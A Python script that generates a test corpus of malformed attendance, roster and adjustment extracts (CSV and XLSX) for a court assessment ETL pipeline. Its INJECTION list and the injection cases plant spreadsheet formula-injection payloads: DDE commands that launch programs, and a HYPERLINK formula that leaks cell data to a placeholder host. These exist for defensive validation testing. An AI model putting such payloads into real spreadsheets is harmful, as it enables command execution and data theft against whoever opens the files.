"""Writes the bad-input corpus: extracts broken the ways real ones arrive (issue 7).

Run once from the repository root, `python -m tests.corpus.make_corpus`; the files it writes are
committed beside it, so a reviewer reads the exact bytes the tests validate, and the same run
always gives the same bytes (workbook timestamps are pinned). What each file must get is not
here but in `expected.json`, written by hand: this script only makes the bytes.

Every file is named as the folder connector names extracts (`<source>-<what is wrong>.csv`), so
its source follows from its name. The clean companions in `clean/` are what a case is validated
with when it does not replace them: a roster of 40 people (0001-0040, three-character Chinese
names, one court) and their attendance on 2 and 3 March 2026 (80 rows, lines 2-81). Cases that
add bad rows add them after the clean ones, and a roster case adds people from 0041 on, so the
clean attendance stays clean whatever the case does to the roster.
"""

from __future__ import annotations

import datetime as dt
import functools
import re
from collections.abc import Callable
from pathlib import Path

from openpyxl import Workbook

from etl.generate import workbook_bytes

HERE = Path(__file__).resolve().parent
WHEN = dt.datetime(2026, 4, 1)  # the workbooks' save time, pinned
SHEET1 = "xl/worksheets/sheet1.xml"
EXCEL_EPOCH = dt.date(1899, 12, 30)

ROSTER_HEAD = "工号,姓名,单位编码,单位名称,部门编码,部门,人员类别,岗位系数,邮箱".split(",")
ATT_HEAD = ["工号", "日期", "考勤结果", "履职填报", "领导审阅"]
ADJ_HEAD = ["工号", "日期", "事项编码", "分值", "次数", "说明", "依据"]
SURNAMES = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗"
GIVEN = ["建国", "秀英", "志强", "丽华", "海燕", "文博", "晓明", "春梅"]
UNIT = ("u1", "某县人民法院")
DEPTS = [("d1", "民事审判第一庭"), ("d2", "刑事审判庭")]
CATEGORIES = ["一般工作人员", "员额法官", "staff", "judge"]
INJECTION = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
]


def pid(i: int) -> str:
    return f"{i:04d}"


def name(i: int) -> str:
    return SURNAMES[i % len(SURNAMES)] + GIVEN[i % len(GIVEN)]


def person(i: int, **change: str) -> list[str]:
    """One roster row in ROSTER_HEAD order; `change` replaces cells by canonical name."""
    dept = DEPTS[i % 2]
    row = {
        "person_id": pid(i),
        "name": name(i),
        "unit_id": UNIT[0],
        "unit_name": UNIT[1],
        "dept_id": dept[0],
        "dept_name": dept[1],
        "category": CATEGORIES[i % len(CATEGORIES)],
        "post_coefficient": "1.2" if i % 5 == 0 else "1.0",
        "email": f"p{i:04d}@court.example.cn",
    }
    return list({**row, **change}.values())


def roster_rows(last: int = 40) -> list[list[str]]:
    return [person(i) for i in range(1, last + 1)]


def attendance_rows() -> list[list[str]]:
    """40 people on 2 and 3 March: lines 2-41 the 2nd, 42-81 the 3rd."""
    return [[pid(i), f"2026-03-0{d}", "正常", "1", "1"] for d in (2, 3) for i in range(1, 41)]


def adjustment_rows() -> list[list[str]]:
    """Everyone praised by the city (a fixed-points rule: points left blank), lines 2-41."""
    return [
        [pid(i), "2026-03-05", "praise_city", "", "1", "市级表扬", f"某发〔2026〕{i}号"]
        for i in range(1, 41)
    ]


def csv_bytes(
    head: list[str] | None,
    rows: list[list[str]],
    encoding: str = "utf-8",
    newline: str = "\n",
    sep: str = ",",
) -> bytes:
    """Plain CSV text as office software writes it: no quoting unless a test quotes a cell
    itself (so an unquoted comma stays the damage it is)."""
    lines = ([sep.join(head)] if head is not None else []) + [sep.join(r) for r in rows]
    return (newline.join(lines) + newline).encode(encoding)


def serial(day: dt.date) -> int:
    """Excel's serial day number (1900 date system)."""
    return (day - EXCEL_EPOCH).days


# --- workbooks -------------------------------------------------------------------------------
def xlsx_bytes(
    wb: Workbook,
    cached: dict[str, tuple[str | None, str]] | None = None,
    damage: Callable[[bytes], bytes] | None = None,
) -> bytes:
    """The workbook's bytes with pinned timestamps (`etl.generate.workbook_bytes`); `cached`
    gives formula cells (by reference, first sheet) the computed value Excel would have stored:
    (type attribute or None, value); `damage` changes the first sheet's XML (no writer does)."""
    assert not (cached and damage), "one change to the sheet at a time"
    change = functools.partial(_computed, cached) if cached else damage
    return workbook_bytes(wb, "kaohe corpus", WHEN, {SHEET1: change} if change else None)


def _computed(cached: dict[str, tuple[str | None, str]], xml: bytes) -> bytes:
    for ref, (kind, value) in cached.items():
        typed = f' t="{kind}"' if kind else ""
        xml, n = re.subn(
            rf'<c r="{ref}"([^>]*)><f>([^<]*)</f><v\s*/></c>'.encode(),
            rf'<c r="{ref}"\g<1>{typed}><f>\g<2></f><v>{value}</v></c>'.encode(),
            xml,
        )
        assert n == 1, ref
    return xml


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def sheet(head: list[str] | None, rows: list[list[object]], title: str = "Sheet1") -> Workbook:
    """A workbook whose every text cell is a string cell (openpyxl would make '=…' a formula)."""
    wb = Workbook()
    ws = wb.active
    ws.title = title
    fill(ws, ([head] if head else []) + rows)
    return wb


def fill(ws, rows: list[list[object]], first: int = 1) -> None:
    for r, row in enumerate(rows, start=first):
        for c, value in enumerate(row, start=1):
            if value is None or value == "":
                continue
            cell = ws.cell(row=r, column=c, value=value)
            if isinstance(value, str):
                cell.data_type = "s"


# --- the cases -------------------------------------------------------------------------------
def cases() -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    att, ros, adj = attendance_rows(), roster_rows(), adjustment_rows()

    # empty, blank, header only
    out["attendance-empty.csv"] = b""
    out["attendance-only-blank-lines.csv"] = b"\r\n   \r\n\t\r\n"
    out["attendance-bom-only.csv"] = b"\xef\xbb\xbf"
    out["attendance-only-header.csv"] = csv_bytes(ATT_HEAD, [])
    out["adjustments-only-header.csv"] = csv_bytes(ADJ_HEAD, [])
    out["nominations-empty.csv"] = b""

    # encodings
    text = csv_bytes(ROSTER_HEAD, ros, newline="\r\n").decode()
    out["roster-utf16-unicode-text.csv"] = ("\ufeff" + text.replace(",", "\t")).encode("utf-16-le")
    out["attendance-utf16-without-bom.csv"] = (
        csv_bytes(["person_id", "date", "status"], [r[:2] + ["present"] for r in att])
        .decode()
        .encode("utf-16-le")
    )
    nul = csv_bytes(ATT_HEAD, att)
    out["attendance-nul-byte.csv"] = nul.replace(b"2026-03-03", b"2026-03\x00-03", 1)
    extra = person(41)
    out["roster-utf8-with-a-gbk-row.csv"] = csv_bytes(ROSTER_HEAD, ros) + csv_bytes(
        None, [extra], "gbk"
    )
    out["roster-gbk-with-a-utf8-row.csv"] = csv_bytes(ROSTER_HEAD, ros, "gbk") + csv_bytes(
        None, [extra]
    )
    whole = csv_bytes(ROSTER_HEAD, ros + [extra])
    out["roster-utf8-cut-mid-character.csv"] = whole[: whole.rindex(name(41).encode()) + 4]
    whole = csv_bytes(ROSTER_HEAD, ros + [extra], "gb18030")
    out["roster-gb18030-cut-mid-character.csv"] = whole[: whole.rindex(name(41).encode("gbk")) + 3]
    out["roster-bom-then-gbk.csv"] = b"\xef\xbb\xbf" + csv_bytes(ROSTER_HEAD, ros, "gbk")
    dash = name(7).encode() + b"\x96"  # an en dash after a name, as Windows-1252 writes it
    out["roster-utf8-stray-cp1252-byte.csv"] = csv_bytes(ROSTER_HEAD, ros).replace(
        name(7).encode(), dash, 1
    )
    rare = [person(41, name="王䶮"), person(42, name="李𠀾"), person(43, name="欧阳䶮䶮")]
    out["roster-gb18030-four-byte-names.csv"] = csv_bytes(ROSTER_HEAD, ros + rare, "gb18030")
    out["attendance-bom-crlf.csv"] = b"\xef\xbb\xbf" + csv_bytes(ATT_HEAD, att, newline="\r\n")

    # CSV structure
    out["attendance-cut-mid-row.csv"] = csv_bytes(ATT_HEAD, att) + b"0001,2026-03-0"
    out["attendance-cut-inside-quotes.csv"] = (
        csv_bytes(ATT_HEAD, att) + '0001,"2026-03-04,正常,1,1\n0002,2026-03-04'.encode()
    )
    out["roster-unquoted-comma-in-name.csv"] = csv_bytes(
        ROSTER_HEAD, ros + [person(41, name="欧阳,修")]
    )
    out["attendance-trailing-commas.csv"] = csv_bytes(ATT_HEAD, [r + ["", ""] for r in att])
    out["attendance-semicolons.csv"] = csv_bytes(ATT_HEAD, att, sep=";")
    out["attendance-tabs.csv"] = csv_bytes(ATT_HEAD, att, sep="\t")
    out["attendance-title-above-header.csv"] = csv_bytes(
        ["某县人民法院2026年3月考勤表", "", "", "", ""], [ATT_HEAD] + att
    )
    blank = [["", "", "", "", ""]]
    out["attendance-blank-lines-inside.csv"] = csv_bytes(
        ATT_HEAD, att[:40] + blank + blank + att[40:] + [["0001", "2026-03-04", "病假", "1", "1"]]
    ).replace(b"\n,,,,\n", b"\n\n")
    multi = [person(1, unit_name='"某县人民法院\n（本部）"')] + ros[1:]
    out["roster-multiline-quoted-cell.csv"] = csv_bytes(
        ROSTER_HEAD, multi + [person(41, category="临时工")]
    )
    out["attendance-header-repeated.csv"] = csv_bytes(ATT_HEAD, att[:40] + [ATT_HEAD] + att[40:])

    # headers
    out["attendance-duplicate-header.csv"] = csv_bytes(
        ATT_HEAD + ["工号"], [r + [r[0]] for r in att]
    )
    out["attendance-alias-and-name-both.csv"] = csv_bytes(
        ["person_id"] + ATT_HEAD, [[r[0]] + r for r in att]
    )
    out["roster-duplicate-unknown-headers.csv"] = csv_bytes(
        ROSTER_HEAD + ["备注", "备注"], [r + ["", "借调"] for r in ros]
    )
    out["attendance-fullwidth-padded-headers.csv"] = csv_bytes(
        ["\u3000工号\u3000", " ＤＡＴＥ ", "Status  ", "履职填报 ", " 领导审阅"], att
    )
    out["attendance-missing-status-column.csv"] = csv_bytes(ATT_HEAD[:2], [r[:2] for r in att])

    # values
    forms = [
        lambda d: d.isoformat(),
        lambda d: f"{d.year}/{d.month}/{d.day}",
        lambda d: f"{d.year}年{d.month}月{d.day}日",
        lambda d: f"{d.year}.{d.month}.{d.day}",
        lambda d: str(serial(d)),
        lambda d: f"{serial(d)}.0",
        lambda d: f"{serial(d)}.375",  # 09:00, as a number
        lambda d: f"{d.isoformat()} 08:30",
        lambda d: f"{d.isoformat()}T08:30:00",
        lambda d: f"{d.year}年{d.month}月{d.day}日".translate(FULLWIDTH),
        lambda d: f"{d.year} 年 {d.month} 月 {d.day} 日",
    ]
    mar2 = dt.date(2026, 3, 2)
    every = [[pid(i), forms[i % len(forms)](mar2), "正常", "1", "1"] for i in range(1, 41)]
    out["attendance-dates-every-form.csv"] = csv_bytes(ATT_HEAD, every + att[40:])
    out["attendance-dates-unreadable.csv"] = csv_bytes(
        ATT_HEAD,
        att
        + [
            ["0001", "3/4/2026", "正常", "1", "1"],
            ["0002", "2026-02-30", "正常", "1", "1"],
            ["0003", "20260304", "正常", "1", "1"],
        ],
    )
    april = str(serial(dt.date(2026, 4, 1)))
    out["attendance-dates-outside-month.csv"] = csv_bytes(
        ATT_HEAD,
        att + [["0001", "2026-04-01", "正常", "1", "1"], ["0002", april, "正常", "1", "1"]],
    )
    out["attendance-fullwidth-digits.csv"] = csv_bytes(
        ATT_HEAD, [[c.translate(FULLWIDTH) for c in r] for r in att]
    )
    spaces = ["{} ", " {}", "{}\u3000", "\u00a0{}", "\u200b{}", "{}\u200b", "\t{}\t"]
    out["attendance-stray-spaces.csv"] = csv_bytes(
        ATT_HEAD,
        [[spaces[i % len(spaces)].format(c) for c in r] for i, r in enumerate(att)],
    )
    out["attendance-flags-and-labels.csv"] = csv_bytes(
        ATT_HEAD,
        [
            [r[0], r[1], ["正常", "迟到", "早退", "请假", "出差", "休息日", "旷工"][i % 7]]
            + [["是", "否"], ["TRUE", "false"], ["Y", "n"], ["1", ""]][i % 4]
            for i, r in enumerate(att)
        ]
        + [["0001", "2026-03-04", "present", "√", "1"]],
    )
    out["attendance-over-the-share.csv"] = csv_bytes(
        ATT_HEAD, att + [[pid(i), "2026-03-04", "正常", "1", "1"] for i in range(901, 906)]
    )
    huge = ("pasted report page after page; " * 3500)[:99_999] + "."  # 100,000 characters
    out["roster-100000-character-name.csv"] = csv_bytes(ROSTER_HEAD, ros + [person(41, name=huge)])
    out["adjustments-100000-character-note.csv"] = csv_bytes(
        ADJ_HEAD, adj + [["0001", "2026-03-06", "praise_city", "", "1", huge, "某发〔2026〕99号"]]
    )
    quoted = ['"' + p.replace('"', '""') + '"' for p in INJECTION]  # as CSV quotes a cell
    out["roster-csv-injection-names.csv"] = csv_bytes(
        ROSTER_HEAD, ros + [person(41 + k, name=p) for k, p in enumerate(quoted)]
    )
    notes = [r[:5] + [quoted[i], r[6]] if i < 5 else r for i, r in enumerate(adj)]
    out["adjustments-csv-injection.csv"] = csv_bytes(
        ADJ_HEAD, notes + [["0001", "2026-03-06", "praise_city", "=1+1", "1", "=1+1", "x"]]
    )
    out["adjustments-excel-error-values.csv"] = csv_bytes(
        ADJ_HEAD, adj + [["0002", "2026-03-06", "praise_city", "#DIV/0!", "1", "#N/A", "x"]]
    )
    out["roster-excel-error-name.csv"] = csv_bytes(ROSTER_HEAD, ros + [person(41, name="#N/A")])
    out["adjustments-odd-numbers.csv"] = csv_bytes(
        ADJ_HEAD,
        adj
        + [
            ["0003", "2026-03-06", "praise_city", "", "2.5", "", ""],
            ["0004", "2026-03-06", "assessment_loss", "NaN", "1", "", ""],
        ],
    )
    breakers = [
        person(101, category="临时工"),
        person(102, post_coefficient="6"),
        person(103, email="p0103 at court"),
        person(104) + ["2026-03-01", "2025-12-31"],
        person(1, name="重复的人"),
    ]
    out["roster-rule-breakers.csv"] = csv_bytes(
        ROSTER_HEAD + ["入职日期", "离岗日期"],
        [r + ["", ""] for r in roster_rows(100)] + [b + [""] * (11 - len(b)) for b in breakers],
    )
    survey_head = ["测评批次", "测评期间", "评价人", "评价关系", "被评价人", "测评项目", "分数"]
    ratings = [
        ["s1", "2026-Q1", f"rater-{i}", "同事互评", pid(i), "de", "85"] for i in range(1, 41)
    ]
    ratings += [
        ["s1", "2026-Q1", "rater-x", "上级", "0001", "de", "101"],
        ["s1", "2026-Q1", "rater-y", "上级", "0002", "xx", "称职"],
    ]
    out["surveys-bad-rows.csv"] = csv_bytes(survey_head, ratings)
    case_head = "案号,承办部门,承办人,合议庭成员,立案日期,结案日期,程序,结案方式".split(",")
    jan5 = str(serial(dt.date(2026, 1, 5)))
    closed = [
        [f"（2026）某01民初{i}号", "d1", pid(i), f"{pid(i)};0002", jan5, "2026年3月9日"]
        + ["普通", "判决"]
        for i in range(1, 21)
    ]
    pending = [
        [f"（2026）某01民初{i}号", "d1", pid(i), "", "2026/1/5", "", "简易", ""]
        for i in range(21, 41)
    ]
    out["cases-serial-dates-and-labels.csv"] = csv_bytes(case_head, closed + pending)

    # workbooks
    out.update(workbooks(att, ros, adj))
    return out


FULLWIDTH = str.maketrans("0123456789-./:", "０１２３４５６７８９－．／：")


def workbooks(att: list[list[str]], ros: list[list[str]], adj: list[list[str]]) -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    as_dates = [[r[0], dt.date.fromisoformat(r[1]), *r[2:]] for r in att]

    wb = sheet(None, [["某县人民法院2026年3月考勤表"], ATT_HEAD] + as_dates)
    wb.active.merge_cells("A1:E1")
    out["attendance-merged-title.xlsx"] = xlsx_bytes(wb)

    wb = sheet(
        None,
        [["工号", "日期", "考勤情况"], ["", "", "考勤结果", "履职填报", "领导审阅"]] + as_dates,
    )
    for cells in ("A1:A2", "B1:B2", "C1:E1"):
        wb.active.merge_cells(cells)
    out["attendance-two-level-header.xlsx"] = xlsx_bytes(wb)

    merged = [r[:3] + ([r[3]] if i in (0, 20) else [""]) + r[4:] for i, r in enumerate(ros)]
    wb = sheet(ROSTER_HEAD, merged)
    wb.active.merge_cells("D2:D21")
    wb.active.merge_cells("D22:D41")
    out["roster-merged-unit-cells.xlsx"] = xlsx_bytes(wb)

    wb = sheet(ROSTER_HEAD, ros)
    ws = wb.active
    ws["H2"] = "=1+0.2"
    ws["B3"] = '=CONCAT("李","建国")'
    ws["H4"] = "=IF(1,1,0)"
    cached = {"H2": (None, "1.2"), "B3": ("str", "李建国"), "H4": (None, "1")}
    out["roster-formulas-computed.xlsx"] = xlsx_bytes(wb, cached)

    wb = sheet(ROSTER_HEAD, ros)
    wb.active["H2"] = "=1+0.2"
    wb.active["B3"] = '=CONCAT("李","建国")'
    out["roster-formulas-never-computed.xlsx"] = xlsx_bytes(wb)

    wb = sheet(ADJ_HEAD, adj + [["0005", "2026-03-06", "praise_city", "", "1", "", ""]])
    wb.active["D42"] = '=VLOOKUP("praise_city",Z1:Z2,2,FALSE)'
    out["adjustments-formula-errors.xlsx"] = xlsx_bytes(wb, {"D42": ("e", "#N/A")})

    wb = sheet(ATT_HEAD, [[r[0], dt.date(2026, 2, 2), *r[2:]] for r in att[:40]], "二月")
    wb.active.sheet_state = "hidden"
    fill(wb.create_sheet("三月"), [ATT_HEAD] + as_dates)
    wb.active = 1
    out["attendance-hidden-first-sheet.xlsx"] = xlsx_bytes(wb)

    kinds = [
        lambda d: d,  # a date cell
        lambda d: dt.datetime.combine(d, dt.time(8, 30)),  # a date-time cell
        lambda d: serial(d),  # a number cell (the date format lost)
        lambda d: f"{d.year}年{d.month}月{d.day}日",  # text
        lambda d: d.isoformat(),  # text
    ]
    rows = [[r[0], kinds[i % 5](dt.date.fromisoformat(r[1])), *r[2:]] for i, r in enumerate(att)]
    out["attendance-dates-cells-serials-text.xlsx"] = xlsx_bytes(sheet(ATT_HEAD, rows))

    out["attendance-cut-off.xlsx"] = half(xlsx_bytes(sheet(ATT_HEAD, as_dates)))
    out["attendance-csv-named-xlsx.xlsx"] = csv_bytes(ATT_HEAD, att)
    out["attendance-damaged-xml.xlsx"] = xlsx_bytes(sheet(ATT_HEAD, as_dates), damage=half)

    wb = Workbook()
    fill(wb.active, [ATT_HEAD] + as_dates, first=3)
    out["attendance-header-on-line-3.xlsx"] = xlsx_bytes(wb)
    out["attendance-empty-sheet.xlsx"] = xlsx_bytes(Workbook())
    out["roster-only-header.xlsx"] = xlsx_bytes(sheet(ROSTER_HEAD, []))

    numeric = [[7, dt.date(2026, 3, 4), "正常", "1", "1"]]  # 0007 typed as a number: zeros lost
    out["attendance-ids-as-numbers.xlsx"] = xlsx_bytes(sheet(ATT_HEAD, as_dates + numeric))

    out["roster-injection-cells.xlsx"] = xlsx_bytes(
        sheet(ROSTER_HEAD, ros + [person(41 + k, name=p) for k, p in enumerate(INJECTION)])
    )
    return out


def main() -> None:
    made = cases()
    for old in HERE.glob("*-*.*"):
        if old.suffix in (".csv", ".xlsx") and old.name not in made:
            old.unlink()
    for file, data in sorted(made.items()):
        (HERE / file).write_bytes(data)
    (HERE / "clean").mkdir(exist_ok=True)
    (HERE / "clean" / "roster.csv").write_bytes(csv_bytes(ROSTER_HEAD, roster_rows()))
    (HERE / "clean" / "attendance.csv").write_bytes(csv_bytes(ATT_HEAD, attendance_rows()))
    print(f"{len(made)} corpus files in {HERE}")


if __name__ == "__main__":
    main()
